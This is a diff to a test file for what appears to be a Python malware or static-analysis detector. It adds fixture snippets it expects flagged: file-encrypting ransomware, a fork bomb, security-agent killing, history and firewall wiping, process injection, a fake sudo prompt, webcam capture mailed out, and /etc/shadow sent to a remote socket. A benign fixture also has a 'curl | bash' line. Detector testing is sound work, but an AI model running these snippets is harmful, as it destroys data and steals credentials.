@@ -89,6 +89,99 @@ while True:
     time.sleep(0.5)
 `,
   },
+  {
+    name: 'ransomware encrypting every file under home in place',
+    least: 'high',
+    rule: 'destructive-file-ops',
+    source: `from pathlib import Path
+from cryptography.fernet import Fernet
+f = Fernet(Fernet.generate_key())
+for p in Path.home().rglob("*"):
+    if p.is_file():
+        p.write_bytes(f.encrypt(p.read_bytes()))
+        p.rename(p.with_suffix(p.suffix + ".locked"))
+`,
+  },
+  {
+    name: 'a fork bomb',
+    least: 'high',
+    rule: 'destructive-file-ops',
+    source: `import os
+while 1:
+    os.fork()
+`,
+  },
+  {
+    name: 'security agents killed by name through psutil',
+    least: 'high',
+    rule: 'anti-analysis',
+    source: `import psutil
+AGENTS = {"clamd", "falcon-sensor", "osqueryd"}
+for proc in psutil.process_iter(["name"]):
+    if proc.info["name"] in AGENTS:
+        proc.kill()
+`,
+  },
+  {
+    name: 'shell history and firewall rules erased',
+    least: 'high',
+    rule: 'malicious-command',
+    source: `import subprocess
+subprocess.run("unset HISTFILE; history -c; rm -f ~/.bash_history", shell=True)
+subprocess.run(["iptables", "-F"])
+`,
+  },
+  {
+    name: 'remote-thread injection through kernel32',
+    least: 'high',
+    rule: 'native-code',
+    source: `import ctypes
+k = ctypes.windll.kernel32
+h = k.OpenProcess(0x1F0FFF, False, 4242)
+addr = k.VirtualAllocEx(h, 0, 4096, 0x3000, 0x40)
+k.WriteProcessMemory(h, addr, b"\\x90" * 64, 64, None)
+k.CreateRemoteThread(h, None, 0, addr, None, 0, None)
+`,
+  },
+  {
+    name: 'a module encrypted by PyArmor',
+    least: 'high',
+    rule: 'obfuscation',
+    source: `from pytransform import pyarmor_runtime
+pyarmor_runtime()
+__pyarmor__(__name__, __file__, b"\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00\\x00\\x03")
+`,
+  },
+  {
+    name: 'a fake sudo prompt whose answer is kept',
+    least: 'high',
+    rule: 'credential-access',
+    source: `import getpass, subprocess
+pw = getpass.getpass("[sudo] password for %s: " % getpass.getuser())
+subprocess.run(["sudo", "-S", "true"], input=pw + "\\n", text=True)
+open("/tmp/.p", "w").write(pw)
+`,
+  },
+  {
+    name: 'a webcam picture mailed away',
+    least: 'high',
+    rule: 'keylogger-clipboard',
+    source: `import cv2, smtplib
+ok, frame = cv2.VideoCapture(0).read()
+cv2.imwrite("/tmp/.c.jpg", frame)
+s = smtplib.SMTP("smtp.mail.example", 587)
+s.sendmail("a@mail.example", ["drop@mail.example"], open("/tmp/.c.jpg", "rb").read())
+`,
+  },
+  {
+    name: '/etc/shadow sent over a socket',
+    least: 'high',
+    rule: 'credential-access',
+    source: `import socket
+s = socket.create_connection(("198.51.100.7", 4444))
+s.sendall(open("/etc/shadow", "rb").read())
+`,
+  },
 ];
 
 for (const program of PROGRAMS) {
@@ -109,6 +202,16 @@ for top, dirs, names in os.walk(os.path.expanduser("~/.cache/myapp")):
 cwd = getattr(os, "getcwd")()
 pyperclip.copy(cwd)
 print("to install: curl -fsSL https://get.example.invalid/i.sh | bash")
+from pathlib import Path
+for p in Path.home().rglob("*.txt"):
+    Path("backup", p.name).write_text(p.read_text())
+while True:
+    conn, peer = server.accept()
+    if os.fork() == 0:
+        os._exit(0)
+token = getpass.getpass("API token: ")
+clip = cv2.VideoCapture("holiday.mp4")
+os.system("systemctl restart myapp")
 `;
   const { findings } = analyzer.analyze('tidy.py', Buffer.from(benign));
   assert.deepEqual(findings.filter((f) => RANK[f.severity] >= RANK.high).map((f) => `${f.line} ${f.ruleId}`), []);
